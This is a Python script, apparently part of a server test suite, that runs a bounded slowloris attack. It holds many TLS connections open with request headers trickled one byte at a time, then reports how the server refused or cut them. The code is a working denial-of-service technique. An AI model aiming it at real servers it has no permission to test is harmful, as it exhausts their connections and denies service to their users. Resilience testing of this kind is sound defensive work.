#!/usr/bin/env python3
"""slowloris.py - hold many half-sent requests open on one server from
one address, for the attack suite (api_refuses_attacks.sh).

    slowloris.py HOST PORT CAFILE N SECONDS REPORT

Opens up to N TLS connections from HOST's side (source 127.0.0.1),
each sending a request header one byte every 2 s and never ending it,
and keeps trying to have N open for SECONDS.  Bounded: at most 20 * N
connection attempts, and it stops after SECONDS whatever happens.
Writes a JSON report: attempts, refused (closed or reset before the
first byte went through), cut (closed by the server while trickling),
the longest time one connection stayed open, and how many were open at
most at once.  What the server does with them is for the test to judge.
"""
import json
import select
import socket
import ssl
import sys
import time

host, port, cafile, n, seconds, report = (sys.argv[1], int(sys.argv[2]), sys.argv[3],
                                          int(sys.argv[4]), float(sys.argv[5]), sys.argv[6])
REQUEST = (b"GET /metrics HTTP/1.1\r\nHost: argos\r\nUser-Agent: slowloris\r\n"
           b"X-Padding: " + b"a" * 4000 + b"\r\n")
ctx = ssl.create_default_context(cafile=cafile)
start = time.monotonic()
end = start + seconds
conns = []          # [socket, opened_at, bytes_sent, next_send_at]
stats = {"attempts": 0, "refused": 0, "cut": 0, "longest_open_s": 0.0, "most_open": 0}


def close(c, cut):
    age = time.monotonic() - c[1]
    stats["longest_open_s"] = max(stats["longest_open_s"], round(age, 2))
    if cut:
        stats["cut"] += 1
    try:
        c[0].close()
    except OSError:
        pass
    conns.remove(c)


def reap_and_trickle():
    """Drop what the server closed; send the next byte where it is due."""
    now = time.monotonic()
    for c in list(conns):
        # The server closing the connection shows as a readable socket.
        try:
            r, _, _ = select.select([c[0]], [], [], 0)
            if r and c[0].recv(4096) == b"":
                close(c, True)
                continue
        except ssl.SSLWantReadError:
            pass
        except (OSError, ssl.SSLError):
            close(c, True)
            continue
        if now >= c[3] and c[2] < len(REQUEST):
            try:
                c[0].send(REQUEST[c[2]:c[2] + 1])
                c[2] += 1
                c[3] = now + 2
            except ssl.SSLWantWriteError:
                pass
            except (OSError, ssl.SSLError):
                close(c, True)


while time.monotonic() < end:
    reap_and_trickle()
    while len(conns) < n and stats["attempts"] < 20 * n and time.monotonic() < end:
        stats["attempts"] += 1
        try:
            raw = socket.create_connection((host, port), timeout=3,
                                          source_address=("127.0.0.1", 0))
            s = ctx.wrap_socket(raw, server_hostname="127.0.0.1")
            s.send(REQUEST[:1])
            s.setblocking(False)
            conns.append([s, time.monotonic(), 1, time.monotonic() + 2])
        except (OSError, ssl.SSLError):
            stats["refused"] += 1
            break       # the server is saying no: try again on the next round
    time.sleep(0.2)
    # Counted after a pause, so that a connection the server closed just
    # as another opened is not counted as open.
    reap_and_trickle()
    stats["most_open"] = max(stats["most_open"], len(conns))

for c in list(conns):
    close(c, False)
with open(report, "w") as f:
    json.dump(stats, f)
